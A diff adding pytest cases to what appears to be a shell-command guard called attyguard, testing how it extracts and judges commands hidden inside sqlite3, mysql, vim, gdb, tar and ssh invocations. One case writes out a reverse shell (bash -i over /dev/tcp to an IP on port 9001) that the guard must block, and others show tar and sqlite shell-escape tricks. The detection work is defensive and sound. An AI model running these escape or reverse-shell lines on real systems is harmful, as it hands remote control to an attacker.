@@ -6,7 +6,7 @@ import pytest
 
 from attyguard.engine.classify import classify
 from attyguard.engine.decode import SHELL_HANDOFF, find_payloads
-from attyguard.engine.handoff import MAX_STRINGS, shell_strings
+from attyguard.engine.handoff import MAX_STRINGS, embedded_commands, shell_strings
 from attyguard.engine.parse import parse
 from attyguard.engine.verdict import Action
 
@@ -69,3 +69,25 @@ def test_what_interpreters_hand_to_a_shell_is_judged(line: str) -> None:
 ])
 def test_ordinary_handoffs_stay_quiet(line: str) -> None:
     assert classify(line).action is Action.ALLOW
+
+
+@pytest.mark.parametrize(("line", "expected"), [
+    ("sqlite3 :memory: '.shell uname -a'", ["uname -a"]),
+    ("mysql -u app -e '\\! hostname'", ["hostname"]),
+    ("vim -c ':!make test' main.c", ["make test"]),
+    ("vim +'!ls' notes", ["ls"]),
+    ("gdb -q -ex 'shell date' -ex quit", ["date"]),
+    ("tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=whoami", ["whoami"]),
+    ("ssh -o ProxyCommand='nc -x proxy:1080 %h %p' host", ["nc -x proxy:1080 %h %p"]),
+    ("vim -c ':set nu' main.c", []),  # an editor command, not a shell one
+    ("sqlite3 app.db '.tables'", []),
+])
+def test_embedded_commands(line: str, expected: list[str]) -> None:
+    cmd = parse(line).commands[0]
+    assert embedded_commands(cmd) == expected
+
+
+def test_embedded_commands_are_judged() -> None:
+    line = "sqlite3 /dev/null '.shell bash -i >& /dev/tcp/192.0.2.19/9001 0>&1'"
+    assert classify(line).action is Action.BLOCK
+    assert classify("vim -c ':!make test' main.c").action is Action.ALLOW
